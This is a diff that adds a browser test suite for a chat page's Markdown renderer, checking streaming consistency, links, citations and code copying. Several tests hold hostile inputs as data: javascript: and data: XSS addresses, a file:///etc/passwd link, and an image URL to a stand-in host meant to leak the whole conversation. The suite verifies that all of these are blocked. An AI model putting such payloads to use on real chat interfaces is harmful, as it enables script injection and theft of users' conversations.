@@ -1,0 +1,238 @@
+"""Markdown as elements, in a real browser: however the text was cut, whatever it contains."""
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.page.conftest import Chat
+from tests.page.test_page import DONE, START, answer_with
+
+ANSWER = """## Title with *emphasis*
+
+A paragraph with **bold**, `code`, ~~gone~~ and [a link](https://example.org "there").
+It goes on in a second line, with https://example.org/bare and a formula \\( a*b \\).
+
+1. one
+   - nested **bold
+   over two lines**
+
+     and a paragraph
+2. two
+
+   ```python
+   def f(x):
+
+       return "``` not the end"
+   ```
+
+| a | b |
+| --- | --: |
+| 1 | `x | y` |
+| **2** |
+
+> quoted
+continued lazily
+
+- [x] done
+- [ ] not yet
+
+$$
+x = y
+$$
+
+Setext
+------
+
+[ref] and ![picture](https://example.org/x.png)
+
+[ref]: https://example.org/ref
+"""
+
+FUZZ = """async ([answer, seed]) => {
+  const { Prose } = await import("/static/js/markdown/prose.js");
+  const random = () => (seed = (seed * 16807) % 2147483647) / 2147483647;
+  const draw = (text, cuts) => {
+    const element = document.createElement("div");
+    const prose = new Prose(element);
+    let at = 0;
+    for (const cut of [...cuts, text.length]) {
+      prose.push(text.slice(at, cut));
+      prose.draw();
+      at = cut;
+    }
+    prose.end();
+    element.normalize();
+    return element.innerHTML;
+  };
+  const pieces = answer.split(/(\\s+|\\b|(?=[*_`|~[\\]()#>-]))/);
+  const texts = [answer];
+  for (let n = 0; n < 150; n += 1) {
+    const length = 5 + Math.floor(random() * 60);
+    texts.push(Array.from({ length }, () => pieces[Math.floor(random() * pieces.length)]).join(""));
+  }
+  for (const text of texts) {
+    const whole = draw(text, []);
+    const ways = [Array.from({ length: text.length }, (_, n) => n)];
+    for (let n = 0; n < 3; n += 1) {
+      const cuts = [];
+      for (let at = 0; (at += 1 + Math.floor(random() * 15)) < text.length; ) cuts.push(at);
+      ways.push(cuts);
+    }
+    for (const cuts of ways) {
+      const got = draw(text, cuts);
+      if (got !== whole) return { text, whole, got };
+    }
+  }
+  return null;
+}"""
+
+SETTLED = """async (answer) => {
+  const { Prose } = await import("/static/js/markdown/prose.js");
+  const element = document.createElement("div");
+  const prose = new Prose(element);
+  const settled = [];
+  for (const char of answer) {
+    prose.push(char);
+    prose.draw();
+    for (let n = settled.length; n < element.children.length - 1; n += 1) {
+      settled.push([element.children[n], element.children[n].outerHTML]);
+    }
+    for (const [n, [node, html]] of settled.entries()) {
+      if (element.children[n] !== node) return `block ${n} was replaced`;
+      if (node.outerHTML !== html) return `block ${n} was rewritten: ${html} became ${node.outerHTML}`;
+    }
+  }
+  prose.end();
+  return settled.every(([node], n) => element.children[n] === node) ? null : "replaced at the end";
+}"""
+
+
+@pytest.mark.parametrize("seed", [1, 2026])
+def test_the_page_does_not_depend_on_where_the_text_was_cut(chat: Chat, seed: int) -> None:
+    assert chat.page.evaluate(FUZZ, [ANSWER, seed]) is None
+
+
+def test_what_is_finished_is_never_touched_again(chat: Chat) -> None:
+    assert chat.page.evaluate(SETTLED, ANSWER) is None
+
+
+def told(chat: Chat, text: str, *more: dict[str, Any]) -> None:
+    """Let Claude say *text*."""
+    block = {"type": "block_start", "index": 0, "kind": "text", "at_ms": 1}
+    stop = {"type": "block_stop", "index": 0, "at_ms": 2}
+    answer_with(chat.page, START, block, {"type": "text", "index": 0, "text": text}, *more, stop, DONE)
+    chat.ask("Tell me.")
+    chat.finished()
+
+
+def test_an_answer_has_structure(chat: Chat) -> None:
+    told(chat, ANSWER)
+    prose = chat.page.locator(".prose")
+    expect(prose.get_by_role("heading", level=3, name="Title with emphasis")).to_be_visible()
+    expect(prose.get_by_role("link", name="a link")).to_have_attribute("href", "https://example.org")
+    expect(prose.get_by_role("columnheader")).to_have_text(["a", "b"])
+    expect(prose.get_by_role("checkbox", checked=True)).to_have_count(1)
+    expect(prose.locator(".code__language")).to_have_text("python")
+    expect(prose.get_by_role("link", name="ref")).to_have_attribute("href", "https://example.org/ref")
+
+
+def test_links_open_outside_and_tell_nobody(chat: Chat) -> None:
+    told(chat, "[a](https://example.org) [b](mailto:a@example.org) [c](#top)")
+    links = chat.page.locator(".prose a")
+    for link in (links.nth(0), links.nth(1)):
+        expect(link).to_have_attribute("rel", "noopener noreferrer")
+        expect(link).to_have_attribute("target", "_blank")
+    expect(links).to_have_count(3)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "javascript:alert(1)",
+        "JavaScript:alert(1)",
+        "java&#x0A;script:alert(1)",
+        "&#1;javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "vbscript:x",
+        "file:///etc/passwd",
+        "blob:https://example.org/x",
+        "//example.org/x",
+        "api/session",
+    ],
+)
+def test_other_addresses_are_not_links(chat: Chat, address: str) -> None:
+    told(chat, f"[words](<{address}>) ![picture](<{address}>)")
+    expect(chat.page.locator(".prose")).to_contain_text("words")
+    expect(chat.page.locator(".prose a")).to_have_count(0)
+
+
+def test_pictures_are_never_loaded(chat: Chat) -> None:
+    asked: list[str] = []
+    chat.page.on("request", lambda request: asked.append(request.url))
+    told(chat, "![a secret](https://evil.example/?q=the+whole+conversation) <img src=https://evil.example/>")
+    expect(chat.page.locator(".prose a.image")).to_have_text("a secret")
+    expect(chat.page.locator(".prose img")).to_have_count(0)
+    assert not [url for url in asked if "evil.example" in url]
+
+
+def test_code_can_be_copied(open_chat: Callable[..., Chat], page_url: str) -> None:
+    chat = open_chat(page_url, permissions=["clipboard-read", "clipboard-write"])
+    told(chat, "```py\nx = 1\n\nprint(x)\n```\n")
+    chat.page.get_by_role("button", name="Copy", exact=True).click()
+    expect(chat.page.get_by_role("button", name="Copied")).to_be_visible()
+    assert chat.page.evaluate("navigator.clipboard.readText()") == "x = 1\n\nprint(x)"
+
+
+def test_a_citation_is_a_number_that_shows_what_it_cites(chat: Chat) -> None:
+    citation = {
+        "type": "web_search_result_location",
+        "url": "https://example.org/rivers",
+        "title": "On rivers",
+        "cited_text": "They flow.",
+    }
+    told(chat, "Rivers flow.", {"type": "citation", "index": 0, "citation": citation})
+    number = chat.page.get_by_role("link", name="Source 1: On rivers")
+    expect(number).to_have_attribute("href", "https://example.org/rivers")
+    expect(chat.page.get_by_text("They flow.")).to_be_hidden()
+    number.focus()
+    expect(chat.page.get_by_text("They flow.")).to_be_visible()
+
+
+def test_text_that_goes_on_after_a_break_says_where(chat: Chat) -> None:
+    answer_with(
+        chat.page,
+        START,
+        {"type": "block_start", "index": 0, "kind": "text", "at_ms": 1},
+        {"type": "text", "index": 0, "text": "Rivers **fl"},
+        {"type": "retry", "reason": "reset", "attempt": 1, "delay_ms": 1, "discard": []},
+        {"type": "seam", "index": 0, "offset": 11, "trimmed": 0, "attempt": 1, "mode": "ask"},
+        {"type": "text", "index": 0, "text": "ow**."},
+        {"type": "block_stop", "index": 0, "at_ms": 2},
+        DONE,
+    )
+    chat.ask("Tell me.")
+    chat.finished()
+    expect(chat.page.locator(".prose strong")).to_have_text("flow")
+    expect(chat.page.locator(".prose strong .seam")).to_have_count(1)
+    expect(chat.page.locator(".note")).to_have_count(0)
+
+
+def test_an_answer_at_its_length_limit_can_go_on(chat: Chat) -> None:
+    answer_with(
+        chat.page,
+        START,
+        {"type": "block_start", "index": 0, "kind": "text", "at_ms": 1},
+        {"type": "text", "index": 0, "text": "Half"},
+        {**DONE, "stop_reason": "max_tokens"},
+    )
+    chat.ask("Tell me.")
+    chat.finished()
+    expect(chat.page.locator(".note")).to_have_text("Stopped at the length limit.")
+    answer_with(chat.page, START, DONE)
+    chat.page.get_by_role("button", name="Continue").click()
+    expect(chat.page.locator(".prompt__text")).to_have_text(
+        ["Tell me.", "Continue exactly where you stopped."]
+    )
+    chat.finished()
